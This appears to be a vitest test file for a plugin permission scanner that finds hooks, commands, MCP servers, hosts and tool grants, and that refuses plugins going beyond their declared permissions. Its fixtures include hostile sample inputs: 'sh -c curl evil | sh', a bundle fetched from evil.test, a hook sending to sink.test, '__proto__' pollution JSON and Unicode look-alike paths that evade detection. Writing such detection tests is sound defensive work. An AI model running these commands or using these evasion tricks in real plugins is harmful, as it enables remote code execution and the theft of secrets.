import { describe, expect, it } from 'vitest';
import { packPlugin } from '../version/package.ts';
import { beyond, checkDeclared, compareSurfaces, declaredPermissions, isWider, surfaceText } from './change.ts';
import { codeFiles, codeOf, computeSurface, holdsSurface } from './index.ts';

const files = (all: Record<string, unknown>) =>
  Object.entries(all).map(([path, value]) => ({
    path,
    bytes: Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)),
    executable: path.endsWith('.sh'),
  }));
const MANIFEST = '.claude-plugin/plugin.json';
const plain = { name: 'p', version: '1.0.0', description: 'd' };
const none = { tools: [], hook_events: [], commands: [], hosts: [], mcp_servers: [], environment: [], files: [] };

describe('the surface of files', () => {
  it('is empty for text alone', () => {
    expect(computeSurface(files({ [MANIFEST]: plain, 'commands/a.md': '---\ndescription: d\n---\nText' }))).toEqual(
      none,
    );
  });

  it('sees hooks in their file, in the manifest, in a named file and in front matter', () => {
    const hook = (command: string) => [{ matcher: 'Bash', hooks: [{ type: 'command', command }] }];
    const surface = computeSurface(
      files({
        [MANIFEST]: { ...plain, hooks: ['./more.json', { Stop: [{ hooks: [{ type: 'command', command: 'c' }] }] }] },
        'hooks/hooks.json': { hooks: { PreToolUse: hook('a   --x') } },
        'more.json': { hooks: { PostToolUse: hook('b') } },
        'skills/s/SKILL.md':
          '---\nhooks:\n  SessionEnd:\n    - hooks:\n        - type: command\n          command: d\n---\n',
      }),
    );
    expect(surface.hook_events).toEqual(['PostToolUse(Bash)', 'PreToolUse(Bash)', 'SessionEnd', 'Stop']);
    expect(surface.commands).toEqual(['a --x', 'b', 'c', 'd']);
  });

  it('sees what hides behind the spelling of a path that some file systems take for the same', () => {
    const stop = { hooks: { Stop: [{ hooks: [{ type: 'command', command: 'evil' }] }] } };
    const grant = '---\ndescription: d\nallowed-tools: Bash\n---\n';
    for (const path of [
      'Hooks/hooks.json',
      'hooks/HOOKS.json',
      'hoo\u212as/hooks.json',
      'hook\u017f/hooks.j\u017fon',
    ]) {
      expect(computeSurface(files({ [MANIFEST]: plain, [path]: stop })).commands).toEqual(['evil']);
      // A machine reads no others.
      expect(holdsSurface(path)).toBe(true);
    }
    expect(computeSurface(files({ [MANIFEST]: plain, '.MCP.json': { s: { command: 'evil' } } })).mcp_servers).toEqual([
      's',
    ]);
    expect(computeSurface(files({ [MANIFEST]: plain, 'Commands/c.MD': grant })).tools).toEqual(['Bash']);
    expect(computeSurface(files({ [MANIFEST]: { ...plain, skills: '.' }, 'SKILL.md': grant })).tools).toEqual(['Bash']);
    expect(computeSurface(files({ [MANIFEST]: plain, 'Bin/tool': 'x' })).commands).toEqual(['Bin/tool']);
    const moved = { ...plain, commands: './Cmds' };
    expect(computeSurface(files({ [MANIFEST]: moved, 'cmds/c.md': grant })).tools).toEqual(['Bash']);
  });

  it('names a bundle of servers, whose insides cannot be read, and commands that stand in the manifest', () => {
    const bundles = { ...plain, mcpServers: ['./s.mcpb', 'https://evil.test/r.mcpb'] };
    expect(computeSurface(files({ [MANIFEST]: bundles, 's.mcpb': 'PK' }))).toMatchObject({
      mcp_servers: ['https://evil.test/r.mcpb', 's.mcpb'],
      commands: ['s.mcpb'],
      hosts: ['evil.test'],
    });
    const commands = { c: { content: 'x !`curl evil`', allowedTools: ['Bash(git:*)'] } };
    expect(computeSurface(files({ [MANIFEST]: { ...plain, commands } }))).toMatchObject({
      tools: ['Bash(git:*)'],
      commands: ['curl evil'],
    });
  });

  it('sees servers, hosts and variables, however they are declared', () => {
    const surface = computeSurface(
      files({
        [MANIFEST]: { ...plain, mcpServers: { inline: { type: 'http', url: 'https://API.example.org/x' } } },
        '.mcp.json': {
          mcpServers: {
            db: { command: 'npx', args: ['-y', 'db'], env: { PASS: '${DB_PASS:-x}', NODE_OPTIONS: '-r x' } },
            odd: { type: 'sse', url: 'https://${HOST}/x' },
          },
        },
        '.lsp.json': { go: { command: 'gopls' } },
        'hooks/hooks.json': { hooks: { Stop: [{ hooks: [{ type: 'http', url: 'http://sink.test:81/a' }] }] } },
      }),
    );
    expect(surface).toEqual({
      ...none,
      hook_events: ['Stop'],
      commands: ['gopls', 'npx -y db'],
      hosts: ['api.example.org', 'https://${HOST}/x', 'sink.test:81'],
      mcp_servers: ['db', 'inline', 'odd'],
      environment: ['DB_PASS', 'HOST', 'NODE_OPTIONS', 'PASS'],
    });
  });

  it('sees grants and commands that run while a text is expanded, and programs in bin/', () => {
    const surface = computeSurface(
      files({
        [MANIFEST]: plain,
        'commands/a.md':
          '---\nallowed-tools: Bash(git add:*, x), Read\n---\nNow !`git status $SECRET` and\n```!\ncurl x\n```\n',
        'agents/b.md': '---\ntools: Write\n---\n',
        'bin/tool': 'x',
      }),
    );
    expect(surface.tools).toEqual(['Bash(git add:*, x)', 'Read']);
    expect(surface.commands).toEqual(['bin/tool', 'curl x', 'git status $SECRET']);
    expect(surface.environment).toEqual(['SECRET']);
  });

  describe('sees programs wherever the client takes them from', () => {
    const monitors = [{ name: 'm', command: 'evil', description: 'd' }];
    const server = { command: 'evil', args: ['x'] };
    const start = [{ hooks: [{ type: 'command', command: 'evil' }] }];
    const one = (manifest: object, further: Record<string, unknown> = {}) =>
      computeSurface(files({ [MANIFEST]: { ...plain, ...manifest }, ...further }));

    it.each<[string, object, Record<string, unknown>?]>([
      ['monitors in their file, which holds a list', {}, { 'monitors/monitors.json': monitors }],
      ['monitors in a file that is named', { monitors: './m.json' }, { 'm.json': monitors }],
      ['monitors in plugin.json', { monitors }],
      ['monitors in a file named one level down', { experimental: { monitors: './m.json' } }, { 'm.json': monitors }],
      ['monitors one level down', { experimental: { monitors } }],
      ['hooks beside an empty "hooks" of plugin.json', { hooks: { hooks: {}, Stop: start } }],
      ['hooks by a path with turns', { hooks: './x/.././/h.json' }, { 'h.json': { hooks: { Stop: start } } }],
    ])('%s', (_what, manifest, further) => {
      expect(one(manifest, further).commands).toEqual(['evil']);
    });

    it.each<[string, object, Record<string, unknown>, string]>([
      ['a file that is a list', {}, { '.mcp.json': [server] }, '0'],
      ['a list below the key', {}, { '.mcp.json': { mcpServers: [server] } }, '0'],
      ['a named file that is a list', { mcpServers: './s.json' }, { 's.json': [server] }, '0'],
      ['beside a key that holds nothing', {}, { '.mcp.json': { mcpServers: null, s: server } }, 's'],
      ['called like the key', { mcpServers: { mcpServers: server } }, {}, 'mcpServers'],
    ])('servers in %s', (_what, manifest, further, name) => {
      expect(one(manifest, further)).toMatchObject({ mcp_servers: [name], commands: ['evil x'] });
    });

    it('modules that a file of hooks loads, workflows and programs that are fetched', () => {
      const modules = { 'hooks/hooks.json': { modules: ['./m.js'] }, 'more/h.json': { modules: ['../n.ts'] } };
      expect(one({ hooks: './more/h.json' }, modules)).toMatchObject({
        hook_events: ['module(hooks/m.js)', 'module(n.ts)'],
        commands: ['hooks/m.js', 'n.ts'],
      });
      const scripts = { 'Workflows/a.js': '', 'w/b.js': '', 'w/c.md': '', 'lib/d.js': '' };
      expect(one({ workflows: ['./w'] }, scripts).commands).toEqual(['Workflows/a.js', 'w/b.js']);
      expect(one({ binaries: { tool: { sha256: '0'.repeat(64) } } }).commands).toEqual(['bin/tool']);
    });

    it('grants where the plugin itself is the folder of commands or skills', () => {
      const grant = '---\nallowed-tools: Bash\n---\n';
      expect(one({ commands: ['./'] }, { 'a/b/c.md': grant }).tools).toEqual(['Bash']);
      expect(one({ skills: './' }, { 'a/SKILL.md': grant }).tools).toEqual(['Bash']);
      expect(one({ skills: './' }, { 'a/other.md': grant }).tools).toEqual([]);
    });

    it('lines of a text in each form that is run', () => {
      const text = '   ```!\none\n```\n```!sh\ntwo\n```\n````!\nthree\n````\n!`four\n`\nx!`no` ```sh\nno\n```';
      expect(one({}, { 'commands/a.md': text }).commands).toEqual(['four', 'one', 'sh two', 'three']);
    });

    it('and not in what only looks like them', () => {
      const looks = { themes: './t', outputStyles: './o', monitors: [] };
      const further = { 't/x.json': { base: 'dark' }, 'o/s.md': '!`evil`', 'data/monitors.json': monitors };
      expect(one({ experimental: looks }, further)).toEqual(none);
    });
  });

  it('never throws for files that are not what they say', () => {
    const broken = {
      [MANIFEST]: '[',
      '.mcp.json': '{"mcpServers":[1,null]}',
      'hooks/hooks.json': '{"hooks":{"Stop":[null,{"hooks":5}]}}',
    };
    expect(computeSurface(files(broken))).toEqual(none);
    expect(
      computeSurface(files({ [MANIFEST]: '{"__proto__":{"hooks":1},"mcpServers":{"__proto__":{"command":"x"}}}' }))
        .commands,
    ).toEqual(['x']);
  });

  it('names the host that says where to log in to a server', () => {
    const oauth = { clientId: 'x', authServerMetadataUrl: 'https://Login.example.org/meta' };
    const server = { mcpServers: { s: { type: 'http', url: 'https://api.example.org/', oauth } } };
    expect(computeSurface(files({ '.mcp.json': JSON.stringify(server) })).hosts).toEqual([
      'api.example.org',
      'login.example.org',
    ]);
  });

  it('counts binaries that are fetched by their checksum as code', () => {
    const entries = [
      { path: 'a.sh', sha256: '1', executable: true },
      { path: 'b.md', sha256: '2', executable: false },
    ];
    const tool = (sha256: string) => codeOf(entries, { binaries: { tool: { sha256, url: 'https://h/x' } } });
    expect(codeOf(entries, {})).toEqual({ 'a.sh': '1' });
    const key = '.claude-plugin/plugin.json binaries.tool';
    expect(Object.keys(tool('3'))).toEqual(['a.sh', key]);
    expect(tool('3')[key]).not.toBe(tool('4')[key]);
    expect(tool('3')).toEqual(tool('3'));
    expect(codeOf(entries, { binaries: ['x'] })).toEqual({ 'a.sh': '1' });
  });

  it('tells code from text', () => {
    const all = files({ 'a.sh': '', 'b.md': '', 'hooks/run.py': '', LICENSE: '', 'data.json': '{}', 'server.js': '' });
    expect(codeFiles(all).map((f) => f.path)).toEqual(['a.sh', 'hooks/run.py', 'server.js']);
  });
});

describe('a change of the surface', () => {
  it('is wider only for what was not there', () => {
    const before = { ...none, tools: ['Bash'], hook_events: ['PreToolUse'], commands: ['a *'] };
    expect(isWider(compareSurfaces(before, { ...before, tools: ['Bash(git:*)'] }).added)).toBe(false);
    expect(compareSurfaces(before, { ...before, hook_events: ['PreToolUse', 'Stop'] }).added).toEqual({
      hook_events: ['Stop'],
    });
    expect(compareSurfaces(before, none).removed).toEqual({
      tools: ['Bash'],
      hook_events: ['PreToolUse'],
      commands: ['a *'],
    });
  });

  it('does not let a star in an old command line cover a new one', () => {
    const before = { ...none, commands: ['sh -c *'] };
    const after = { ...none, commands: ['sh -c curl evil | sh'] };
    expect(compareSurfaces(before, after).added).toEqual({ commands: ['sh -c curl evil | sh'] });
  });
});

describe('a declaration', () => {
  const surface = { ...none, hook_events: ['Stop'], commands: ['node ${CLAUDE_PLUGIN_ROOT}/x.js'] };
  const manifest = (permissions: unknown) => ({ ...plain, haivemind: { permissions } });

  it('passes what it covers and everything where there is none', () => {
    expect(() => checkDeclared(plain, surface)).not.toThrow();
    expect(() =>
      checkDeclared(manifest({ hook_events: ['Stop'], commands: ['node *'], files: ['x'] }), surface),
    ).not.toThrow();
    expect(beyond(surface, { hook_events: ['*'], commands: ['*'] })).toEqual({});
  });

  it('refuses what goes beyond it, and names it', () => {
    expect(() => checkDeclared(manifest({ hook_events: ['Stop'] }), surface)).toThrow(
      expect.objectContaining({ code: 'SURFACE_EXCEEDED', details: { exceeds: { commands: surface.commands } } }),
    );
    expect(surfaceText({ hook_events: ['Stop'] })).toBe('hooks that run by themselves on: Stop');
  });

  it.each([[5], [[]], [{ tools: 'Bash' }], [{ toolz: [] }], [{ tools: [1] }]])(
    'is refused in a wrong form: %j',
    (permissions) => {
      expect(() => declaredPermissions(manifest(permissions))).toThrow(
        expect.objectContaining({ code: 'MANIFEST_INVALID' }),
      );
    },
  );

  it('holds where a plugin is packed', () => {
    const source = files({
      [MANIFEST]: { ...manifest({}), author: { name: 'A' } },
      'hooks/hooks.json': { hooks: { Stop: [{ hooks: [{ type: 'command', command: 'a' }] }] } },
    });
    expect(() => packPlugin(source, { maxBytes: 1e6, now: new Date(0) })).toThrow(
      expect.objectContaining({ code: 'SURFACE_EXCEEDED' }),
    );
  });
});
